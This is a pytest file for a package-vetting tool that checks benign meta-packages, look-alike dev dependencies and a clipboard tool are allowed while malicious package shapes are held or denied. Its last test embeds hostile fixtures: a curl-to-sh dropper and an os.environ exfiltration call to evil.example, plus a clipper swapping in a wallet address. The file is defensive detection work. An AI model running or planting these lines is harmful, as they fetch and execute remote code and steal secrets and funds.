"""ADR 0133: what real packages of the ranked corpus are that is not malware.

Each benign shape was held on the tree this started from: a meta-package whose code is its
family's (``pydantic-ai`` -> ``pydantic-ai-slim``), a look-alike asked for only by a
development extra (``usort``, one letter from ``isort``), and a clipboard tool's
``python -m`` entry that copies what it is given. Each sits next to the malicious shape that
must still hold or deny.
"""

from __future__ import annotations

from collections.abc import Iterable

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.rules import PackageFinding, Severity
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import sdist, wheel


def _rules(findings: Iterable[PackageFinding], least: Severity = Severity.HIGH) -> set[str]:
    return {f.rule for f in findings if f.severity >= least}


# Meta-packages ----------------------------------------------------------------------------

LICENCE = {"pkg_ai-1.0.dist-info/licenses/LICENSE": "MIT\n"}


@pytest.mark.parametrize("kind", ["wheel", "sdist"])
def test_a_meta_package_pinning_its_family_at_its_own_version_is_allowed(kind: str) -> None:
    requires = (
        "Requires-Dist: pkg-ai-slim[cli,openai]==1.0\n"
        "Requires-Dist: pkg-ai-slim[bedrock]==1.0; extra == 'bedrock'\n"
    )
    if kind == "wheel":
        data = wheel("pkg-ai", "1.0", dict(LICENCE), requires=requires)
        report = vet("pkg_ai-1.0-py3-none-any.whl", data)
    else:
        files = {"pyproject.toml": "[project]\nname = 'pkg-ai'\n", "README.md": "meta\n"}
        data = sdist("pkg_ai", "1.0", files, extra_metadata=requires.replace("pkg-ai", "pkg_ai"))
        report = vet("pkg_ai-1.0.tar.gz", data)
    assert "empty-package" not in _rules(report.findings), report.to_json()
    assert report.verdict is Outcome.ALLOW, report.to_json()


@pytest.mark.parametrize(
    "requires",
    [
        "",  # names nothing: the placeholder the rule exists for
        "Requires-Dist: pkg-ai-slim==0.9\n",  # the family at another version
        "Requires-Dist: pkg-ai-slim>=1.0\n",  # not pinned
        "Requires-Dist: other-slim==1.0\n",  # a project of another name
        "Requires-Dist: pkgai-slim==1.0\n",  # not the name and a separator
        "Requires-Dist: pkg-ai-slim==1.0; extra == 'all'\n",  # only under an extra
        "Requires-Dist: pkg-ai-slim==1.0; sys_platform == 'win32'\n",  # one platform only
    ],
)
def test_an_empty_package_not_a_family_release_still_holds(requires: str) -> None:
    report = vet("pkg_ai-1.0-py3-none-any.whl", wheel("pkg-ai", "1.0", {}, requires=requires))
    assert "empty-package" in _rules(report.findings)
    assert report.verdict is Outcome.HOLD


# Look-alike dependencies under an extra ---------------------------------------------------

EXTRA_ONLY = (
    'Requires-Dist: black==25.11.0 ; extra == "dev"\nRequires-Dist: usort==1.0.8 ; extra == "dev"\n'
)
CODE = {"lib/__init__.py": "def add(a, b):\n    return a + b\n"}


def test_a_look_alike_asked_for_only_by_an_extra_weighs_medium() -> None:
    report = vet("lib-1.0-py3-none-any.whl", wheel("lib", "1.0", dict(CODE), requires=EXTRA_ONLY))
    found = [f for f in report.findings if f.rule == "lookalike-dependency"]
    assert [f.severity for f in found] == [Severity.MEDIUM]
    assert "only under an extra" in found[0].explanation
    assert report.verdict is Outcome.ALLOW, report.to_json()


def test_a_look_alike_in_pyprojects_optional_dependencies_weighs_medium() -> None:
    pyproject = (
        "[project]\nname = 'lib'\ndependencies = ['attrs']\n"
        "[project.optional-dependencies]\ndev = ['black', 'usort==1.0.8']\n"
    )
    report = vet("lib-1.0.tar.gz", sdist("lib", "1.0", {**CODE, "pyproject.toml": pyproject}))
    found = [f for f in report.findings if f.rule == "lookalike-dependency"]
    assert [f.severity for f in found] == [Severity.MEDIUM]
    assert report.verdict is Outcome.ALLOW, report.to_json()


@pytest.mark.parametrize(
    "requires",
    [
        "Requires-Dist: usort==1.0.8\n",  # fetched by ``pip install lib``
        # Listed under an extra and again without one: the second is fetched.
        EXTRA_ONLY + "Requires-Dist: usort\n",
        'Requires-Dist: usort==1.0.8 ; python_version >= "3.8"\n',  # a marker, not an extra
        "Requires-Dist: usort ; os_name == 'nt' or extra == 'dev'\n",  # on Windows, always
    ],
)
def test_a_look_alike_pip_fetches_by_default_still_holds(requires: str) -> None:
    report = vet("lib-1.0-py3-none-any.whl", wheel("lib", "1.0", dict(CODE), requires=requires))
    assert "lookalike-dependency" in _rules(report.findings)
    assert report.verdict is Outcome.HOLD


def test_a_look_alike_in_pyprojects_dependencies_and_an_extra_still_holds() -> None:
    pyproject = (
        "[project]\nname = 'lib'\ndependencies = ['usort']\n"
        "[project.optional-dependencies]\ndev = ['usort==1.0.8']\n"
    )
    report = vet("lib-1.0.tar.gz", sdist("lib", "1.0", {**CODE, "pyproject.toml": pyproject}))
    assert "lookalike-dependency" in _rules(report.findings)
    assert report.verdict is Outcome.HOLD


def test_a_look_alike_setup_py_installs_still_holds_beside_its_extras() -> None:
    setup = (
        "from setuptools import setup\n"
        "setup(name='lib', version='1.0', install_requires=['usort'],\n"
        "      extras_require={'dev': ['black']})\n"
    )
    report = vet("lib-1.0.tar.gz", sdist("lib", "1.0", {**CODE, "setup.py": setup}))
    assert "lookalike-dependency" in _rules(report.findings)
    assert report.verdict is Outcome.HOLD


# A package's ``python -m`` entry --------------------------------------------------------

CLIP_MAIN = (
    "import sys\nimport pyperclip\n"
    "if len(sys.argv) > 2 and sys.argv[1] == '--copy':\n"
    "    pyperclip.copy(sys.argv[2])\n"
    "elif len(sys.argv) > 1 and sys.argv[1] == '--paste':\n"
    "    sys.stdout.write(pyperclip.paste())\n"
)


def test_a_clipboard_tools_main_module_runs_when_a_person_runs_it() -> None:
    files: dict[str, str | bytes] = {"clip/__init__.py": "X = 1\n", "clip/__main__.py": CLIP_MAIN}
    report = vet("clip-1.0-py3-none-any.whl", wheel("clip", "1.0", files))
    assert "clipboard" not in _rules(report.findings), report.to_json()
    assert report.verdict is Outcome.ALLOW


def test_a_main_module_the_package_imports_runs_on_import() -> None:
    files: dict[str, str | bytes] = {
        "clip/__init__.py": "from . import __main__\n",
        "clip/__main__.py": CLIP_MAIN,
    }
    report = vet("clip-1.0-py3-none-any.whl", wheel("clip", "1.0", files))
    found = [f for f in report.findings if f.rule == "clipboard" and f.severity >= Severity.HIGH]
    assert found and "on import" in found[0].explanation
    assert report.verdict is Outcome.HOLD


@pytest.mark.parametrize(
    ("body", "rule"),
    [
        # A clipper's swap: a wallet address written in the code.
        ("import pyperclip\npyperclip.copy('bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh')\n", ""),
        ("import os\nos.system('curl http://evil.example/x | sh')\n", "dropper"),
        (
            (
                "import os, urllib.request\nurllib.request.urlopen('http://evil.example/c',"
                " data=repr(dict(os.environ)).encode())\n"
            ),
            "exfiltration",
        ),
    ],
)
@pytest.mark.parametrize("imported", [False, True])
def test_a_main_modules_payload_still_holds_or_denies(body: str, rule: str, imported: bool) -> None:
    init = "from . import __main__\n" if imported else "X = 1\n"
    files: dict[str, str | bytes] = {"pkg/__init__.py": init, "pkg/__main__.py": body}
    report = vet("pkg-1.0-py3-none-any.whl", wheel("pkg", "1.0", files))
    if rule:
        assert rule in _rules(report.findings, Severity.CRITICAL)
        assert report.verdict is Outcome.DENY
    else:
        assert "clipboard" in _rules(report.findings)
        assert report.verdict is not Outcome.ALLOW
